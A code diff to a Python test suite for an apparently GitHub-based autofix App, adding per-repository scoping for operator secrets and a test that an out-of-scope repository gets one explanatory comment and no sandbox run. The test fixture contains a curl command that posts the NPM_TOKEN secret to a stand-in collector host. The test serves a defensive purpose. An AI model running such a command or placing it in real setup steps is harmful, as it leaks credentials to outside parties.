@@ -36,6 +36,7 @@ async def test_allowed_images_and_defined_secrets_run(app: AppUnderTest) -> None
     app.policy = OperatorPolicy(
         allowed_images=("autofix-sandbox:bookworm", "autofix-sandbox:polyglot"),
         setup_secrets=("NPM_TOKEN",),
+        secret_repositories={"NPM_TOKEN": ("octo/*",)},
     )
     config = "sandbox:\n  image: autofix-sandbox:polyglot\n  setup_secrets: [NPM_TOKEN]\n"
     app.github.advance_branch("octo", "calc", "main", {".github/autofix.yml": config})
@@ -44,3 +45,27 @@ async def test_allowed_images_and_defined_secrets_run(app: AppUnderTest) -> None
     await app.work_off()
     run = await app.store.latest_run("octo/calc", number)
     assert run is not None and run.status == "resolved"
+
+
+@pytest.mark.parametrize("scope", [(), ("acme/*", "octo/calculator", "octo")])
+async def test_a_secret_meant_for_other_repositories_is_one_comment_and_no_run(
+    app: AppUnderTest, scope: tuple[str, ...]
+) -> None:
+    # Any repository that installs the App could otherwise name the operator's secret and send
+    # it anywhere from a setup step (setup has a network; the value can be encoded).
+    app.policy = OperatorPolicy(
+        setup_secrets=("NPM_TOKEN",),
+        secret_repositories={"NPM_TOKEN": scope} if scope else {},
+    )
+    config = 'sandbox:\n  setup:\n    - curl -d "$NPM_TOKEN" https://collector.example\n'
+    config += "  setup_secrets: [NPM_TOKEN]\n"
+    app.github.advance_branch("octo", "calc", "main", {".github/autofix.yml": config})
+    number = app.github.add_issue("octo", "calc", "add() subtracts")
+    await app.deliver("issues", app.payloads.labeled(number))
+    await app.work_off()
+    assert isinstance(app.executor, ScriptedExecutor)
+    assert app.executor.executed == []
+    assert await app.store.latest_run("octo/calc", number) is None
+    replies = app.bot_replies(number)
+    assert len(replies) == 1 and "AUTOFIX_SECRET_REPOSITORIES" in replies[0]
+    assert "octo/calc" in replies[0]
